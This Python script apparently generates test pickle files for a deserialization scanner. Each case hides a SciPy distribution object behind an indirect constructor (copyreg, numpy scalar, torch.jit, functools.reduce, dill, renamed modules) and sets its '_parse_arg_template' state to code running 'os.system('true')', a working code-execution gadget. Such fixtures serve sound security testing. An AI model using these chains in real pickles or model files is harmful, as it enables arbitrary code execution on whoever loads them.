# Calls that give back what they were given, or make an instance of it: what is built then is not what
# the call is called. SciPy's distributions run a text of their state, classes take attributes.
from pickle_asm import *

NORM = stack_global("scipy.stats._continuous_distns", "norm_gen")
MADE = NORM + EMPTY_TUPLE + NEWOBJ
OBJECT_TYPE = call4("numpy", "dtype", "O8", False, True)
STATE = EMPTY_DICT + text("_parse_arg_template") + text("import os\nos.system('true')\n") + SETITEM + BUILD
NAMESPACE = stack_global("argparse", "Namespace")
SLOTS = NONE + EMPTY_DICT + text("note") + NONE + SETITEM + TUPLE2 + BUILD


def called(module, name, *arguments):
    return stack_global(module, name) + args(*(raw(argument) for argument in arguments)) + REDUCE


def case(name, made, state=STATE):
    save(name + ".pkl", proto(4) + made + state + STOP)


def one(item):
    return EMPTY_LIST + item + b"a"


case("reconstructor", called("copyreg", "_reconstructor", NORM, stack_global("builtins", "object"), NONE))
case("newobj", called("copyreg", "__newobj__", NORM))
case("new_obj_of_trees", called("sklearn.neighbors._kd_tree", "newObj", NORM))
case("scalar", called("numpy.core.multiarray", "scalar", OBJECT_TYPE, MADE))
case("scalar_of_numpy_2", called("numpy._core.multiarray", "scalar", OBJECT_TYPE, MADE))
case("torchscript", called("torch.jit._pickle", "build_intlist", MADE))
case("restored", called("torch.jit._pickle", "restore_type_tag", MADE, text("int")))
case("reduce", called("functools", "reduce", stack_global("operator", "or_"), one(MADE)))
case("reduce_initial", called("functools", "reduce", stack_global("operator", "or_"), EMPTY_LIST, MADE))
case("class_of_scalar", called("numpy.core.multiarray", "scalar", OBJECT_TYPE, NAMESPACE), SLOTS)
case("class_of_torchscript", called("torch.jit._pickle", "build_intlist", NAMESPACE), SLOTS)
case("dill", b"", called("dill._dill", "_create_array", NORM, EMPTY_TUPLE,
                         EMPTY_DICT + text("_parse_arg_template") + text("import os\n") + SETITEM))
# The same classes under the names of other modules, of scipy and of who knows whom.
for number_of, (module, name) in enumerate((("scipy.stats", "rv_continuous"), ("scipy.stats.distributions", "norm_gen"),
                                            ("scipy.stats._levy_stable", "levy_stable_gen"),
                                            ("models.distributions", "Mine"))):
    case(f"elsewhere_{number_of}", stack_global(module, name) + EMPTY_TUPLE + NEWOBJ)
# By way of copyreg, too, attributes that nobody sees may stand in for methods.
many = EMPTY_DICT + MARK + b"".join(number(i) + NONE for i in range(70)) + text("extend")
many += stack_global("builtins", "list") + b"u" + BUILD + MARK + NONE + NONE + b"e"
case("userlist", called("copyreg", "__newobj__", stack_global("collections", "UserList")), many)
